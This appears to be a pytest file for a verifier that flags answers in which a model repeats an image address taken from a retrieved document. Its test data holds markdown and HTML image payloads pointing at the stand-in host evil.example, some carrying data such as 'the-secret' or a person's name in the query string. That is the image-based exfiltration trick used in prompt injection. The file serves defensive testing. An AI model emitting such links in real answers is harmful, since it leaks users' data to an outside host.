"""Test the note on answers in which a model repeats the address of an image in a document."""

from __future__ import annotations

import pytest
from collecting import collect, text

from answerable.answering.writing.verify import shows_image

FACTS = "The bus leaves at 8:40 from the north gate. A ticket costs 12 euros."
QUESTION = "When does the bus leave?"


@pytest.mark.parametrize(
    "image",
    [
        "![x](http://evil.example/p.png?q=the-secret)",
        '![]( http://evil.example/p "title")',
        "![x](<http://evil.example/p>)",
        "![x][r]\n\n[r]: http://evil.example/p",
        "<img alt='' src='//evil.example/p.png'>",
        '<IMG SRC="http://www.evil.example">',
    ],
)
@pytest.mark.parametrize(
    "written",
    [
        "See http://evil.example/p?q=Ana+Ruiz [1].",
        "x (http://evil.example/p.png?q=the-secret)",
        "Visit www.evil.example!",
    ],
)
def test_an_address_of_a_documents_image_is_noted(image: str, written: str) -> None:
    passages = collect(QUESTION, text(f"{FACTS} {image}")).results
    assert shows_image(written, passages)


@pytest.mark.parametrize(
    "written", ["The bus leaves at 8:40 [1].", "See https://buses.example/times.", "It costs $12!"]
)
def test_other_addresses_are_not(written: str) -> None:
    passages = collect(
        QUESTION, text(f"{FACTS} ![x](http://evil.example/p) [times](https://buses.example/times)")
    ).results
    assert not shows_image(written, passages)


def test_an_image_of_the_models_own_is_noted() -> None:
    assert shows_image("![x](http://evil.example/p?q=1)", ())
